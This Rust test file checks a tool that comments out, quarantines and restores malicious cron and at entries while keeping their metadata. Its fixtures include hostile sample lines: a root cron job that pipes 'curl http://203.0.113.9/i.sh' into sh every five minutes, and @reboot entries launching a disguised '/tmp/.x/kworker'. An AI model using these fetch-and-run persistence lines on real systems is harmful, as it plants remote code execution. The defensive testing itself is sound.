//! Tests of `neutralize cron` on temporary files (as root: owners are set and kept): a system
//! crontab and a user crontab commented and restored byte for byte with owner, mode and times,
//! refusals when a line or the file changed, and an at job quarantined (across filesystems when
//! `/dev/shm` is another one) and moved back.

use super::*;
use crate::actuator::LocalActuator;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::time::{Duration, SystemTime};

/// Bytes, mode, owner, group and both times (ns) of a file (the times as before it was read).
fn snap(p: &Path) -> (Vec<u8>, u32, u32, u32, i64, i64, i64, i64) {
    let m = std::fs::symlink_metadata(p).unwrap();
    let data = std::fs::read(p).unwrap();
    // Reading may have set the access time: put it back, so the snapshot changes nothing.
    let at = SystemTime::UNIX_EPOCH + Duration::new(m.atime() as u64, m.atime_nsec() as u32);
    let f = std::fs::File::options().write(true).open(p).unwrap();
    f.set_times(std::fs::FileTimes::new().set_accessed(at))
        .unwrap();
    (
        data,
        m.mode() & 0o7777,
        m.uid(),
        m.gid(),
        m.atime(),
        m.atime_nsec(),
        m.mtime(),
        m.mtime_nsec(),
    )
}

/// Makes `p` with `data`, owner, mode and old times (nanoseconds included).
fn plant(p: &Path, data: &[u8], uid: u32, gid: u32, mode: u32) {
    std::fs::write(p, data).unwrap();
    std::os::unix::fs::chown(p, Some(uid), Some(gid)).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    let t = |s| SystemTime::UNIX_EPOCH + Duration::new(s, 123_456_789);
    let f = std::fs::File::options().write(true).open(p).unwrap();
    f.set_times(
        std::fs::FileTimes::new()
            .set_accessed(t(1_600_000_000))
            .set_modified(t(1_500_000_000)),
    )
    .unwrap();
}

fn root_or_skip() -> bool {
    if nix::unistd::geteuid().is_root() {
        return true;
    }
    crate::skip::skip_or_fail("needs root (chown of test files, root-only staging folders)");
    false
}

fn line(number: usize, text: &str) -> CronLine {
    CronLine {
        number,
        text: text.into(),
    }
}

const SYSTEM: &str = "SHELL=/bin/sh\n\
# m h dom mon dow user command\n\
17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
@reboot root /tmp/.x/kworker -c /tmp/.x/config.json\n\
*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n";

fn places(d: &Path) -> CronPlaces {
    CronPlaces {
        quarantine: d.join("q").to_str().unwrap().into(),
        user_spools: vec![d.join("crontabs").to_str().unwrap().into()],
        at_spools: vec![d.join("atjobs").to_str().unwrap().into()],
    }
}

#[test]
fn system_crontab_lines_commented_and_restored_byte_identical_with_times() {
    if !root_or_skip() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("crontab");
    plant(&p, SYSTEM.as_bytes(), 0, 0, 0o644);
    let orig = snap(&p);
    let path = p.to_str().unwrap();
    let lines = vec![
        line(4, "@reboot root /tmp/.x/kworker -c /tmp/.x/config.json"),
        line(
            5,
            "*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | sh",
        ),
    ];
    let step = NeutralizeCron::with_places(path, lines, places(d.path()));
    assert!(
        step.describe().contains("line(s) 4, 5"),
        "{}",
        step.describe()
    );
    let a: &mut dyn Actuator = &mut LocalActuator::new();
    let before = step.check(a).unwrap();
    assert_eq!(before["kind"], "system");
    assert_eq!(before["original_text"], SYSTEM);
    let after = step.apply(a, "act-1", &before).unwrap();
    let now = std::fs::read_to_string(&p).unwrap();
    let want = SYSTEM
        .replace("@reboot", "# dossier-contained act-1: @reboot")
        .replace("*/5", "# dossier-contained act-1: */5");
    assert_eq!(now, want);
    let m = std::fs::metadata(&p).unwrap();
    assert_eq!((m.mode() & 0o7777, m.uid(), m.gid()), (0o644, 0, 0));
    assert!(!d.path().join(".dossier-staging-act-1").exists());
    assert_eq!(after["written"]["sha256"], keep::sha256_of(want.as_bytes()));
    step.undo(a, "act-1", &before, &after).unwrap();
    assert_eq!(snap(&p), orig, "not byte-identical with its metadata");
    assert!(!d.path().join(".dossier-staging-act-1").exists());
}

#[test]
fn user_crontab_keeps_owner_and_mode_touches_the_spool_and_restores_non_utf8() {
    if !root_or_skip() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let spool = d.path().join("crontabs");
    std::fs::create_dir(&spool).unwrap();
    let p = spool.join("alice");
    let data = b"# caf\xe9 (Latin-1)\n@reboot /home/alice/.cache/x >/dev/null 2>&1\n";
    plant(&p, data, 1234, 4321, 0o600);
    let old = SystemTime::UNIX_EPOCH + Duration::from_secs(1_400_000_000);
    std::fs::File::open(&spool)
        .unwrap()
        .set_modified(old)
        .unwrap();
    let orig = snap(&p);
    let lines = vec![line(2, "@reboot /home/alice/.cache/x >/dev/null 2>&1")];
    let step = NeutralizeCron::with_places(p.to_str().unwrap(), lines, places(d.path()));
    let a: &mut dyn Actuator = &mut LocalActuator::new();
    let before = step.check(a).unwrap();
    assert_eq!(before["kind"], "user");
    assert!(before["original_text"].is_null() && before["original_hex"].is_string());
    let after = step.apply(a, "u1", &before).unwrap();
    let now = std::fs::read(&p).unwrap();
    assert!(
        now.ends_with(b"\n# dossier-contained u1: @reboot /home/alice/.cache/x >/dev/null 2>&1\n")
    );
    let m = std::fs::metadata(&p).unwrap();
    assert_eq!((m.mode() & 0o7777, m.uid(), m.gid()), (0o600, 1234, 4321));
    let spool_mtime = std::fs::metadata(&spool).unwrap().modified().unwrap();
    assert!(spool_mtime > old, "spool folder not touched");
    step.undo(a, "u1", &before, &after).unwrap();
    assert_eq!(snap(&p), orig);
}

#[test]
fn refused_when_a_line_changed_since_the_plan_or_meanwhile() {
    if !root_or_skip() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("miner");
    plant(&p, SYSTEM.as_bytes(), 0, 0, 0o644);
    let path = p.to_str().unwrap();
    let a: &mut dyn Actuator = &mut LocalActuator::new();
    let changed = NeutralizeCron::with_places(
        path,
        vec![line(4, "@reboot root /tmp/.x/other")],
        places(d.path()),
    );
    match changed.check(a) {
        Err(ActionError::Refused(m)) => assert!(m.contains("changed since the plan"), "{m}"),
        other => panic!("{other:?}"),
    }
    let beyond = NeutralizeCron::with_places(path, vec![line(6, "")], places(d.path()));
    assert!(matches!(beyond.check(a), Err(ActionError::Refused(_))));
    // Changed between check and apply: refused, the file keeps the change, no staging left.
    let step = NeutralizeCron::with_places(
        path,
        vec![line(
            4,
            "@reboot root /tmp/.x/kworker -c /tmp/.x/config.json",
        )],
        places(d.path()),
    );
    let before = step.check(a).unwrap();
    let edited = format!("{SYSTEM}# edited\n");
    std::fs::write(&p, &edited).unwrap();
    match step.apply(a, "x2", &before) {
        Err(ActionError::Refused(m)) => assert!(m.contains("changed meanwhile"), "{m}"),
        other => panic!("{other:?}"),
    }
    assert_eq!(std::fs::read_to_string(&p).unwrap(), edited);
    assert!(!d.path().join(".dossier-staging-x2").exists());
}

#[test]
fn undo_refused_when_the_content_changed_since() {
    if !root_or_skip() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("crontab");
    plant(&p, SYSTEM.as_bytes(), 0, 0, 0o644);
    let step = NeutralizeCron::with_places(
        p.to_str().unwrap(),
        vec![line(
            4,
            "@reboot root /tmp/.x/kworker -c /tmp/.x/config.json",
        )],
        places(d.path()),
    );
    let a: &mut dyn Actuator = &mut LocalActuator::new();
    let before = step.check(a).unwrap();
    let after = step.apply(a, "c3", &before).unwrap();
    let mut now = std::fs::read_to_string(&p).unwrap();
    now.push_str("* * * * * root /tmp/.x/again\n");
    std::fs::write(&p, &now).unwrap();
    match step.undo(a, "c3", &before, &after) {
        Err(ActionError::Refused(m)) => assert!(m.contains("changed since"), "{m}"),
        other => panic!("{other:?}"),
    }
    assert_eq!(std::fs::read_to_string(&p).unwrap(), now, "overwritten");
}

#[test]
fn at_job_quarantined_whole_and_moved_back() {
    if !root_or_skip() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let spool = d.path().join("atjobs");
    std::fs::create_dir(&spool).unwrap();
    let p = spool.join("a0000101b2c3d4");
    let job = b"#!/bin/sh\n# atrun uid=0 gid=0\ncd /tmp || exit 1\n/tmp/.x/kworker\n";
    plant(&p, job, 1, 1, 0o700);
    let orig = snap(&p);
    // The quarantine on another filesystem when /dev/shm is one: the copy path.
    let shm = tempfile::tempdir_in("/dev/shm").ok();
    let mut pl = places(d.path());
    if let Some(s) = &shm {
        pl.quarantine = s.path().join("q").to_str().unwrap().into();
    }
    let step =
        NeutralizeCron::with_places(p.to_str().unwrap(), vec![line(4, "/tmp/.x/kworker")], pl);
    let a: &mut dyn Actuator = &mut LocalActuator::new();
    let before = step.check(a).unwrap();
    assert_eq!(before["kind"], "at_job");
    let after = step.apply(a, "at1", &before).unwrap();
    assert!(!p.exists());
    let to = after["to"].as_str().unwrap();
    let qm = std::fs::symlink_metadata(to).unwrap();
    assert_eq!(qm.mode() & 0o7777, 0);
    let spool_dev = std::fs::metadata(&spool).unwrap().dev();
    let want = if qm.dev() == spool_dev {
        "rename"
    } else {
        "copy"
    };
    assert_eq!(after["how"], want);
    step.undo(a, "at1", &before, &after).unwrap();
    assert_eq!(snap(&p), orig);
    assert!(!Path::new(to).exists());
}

#[test]
fn line_helpers() {
    let data = b"a\nb\nc";
    assert_eq!(split_lines(data).len(), 3);
    assert_eq!(split_lines(b"a\n").len(), 1);
    assert_eq!(
        comment_out(data, &[line(3, "c")], "i"),
        b"a\nb\n# dossier-contained i: c"
    );
    assert!(mismatch(data, &[line(0, "")]).is_some());
    assert_eq!(from_hex(&to_hex(b"\x00\xff")).unwrap(), b"\x00\xff");
    assert!(from_hex("zz").is_none());
}
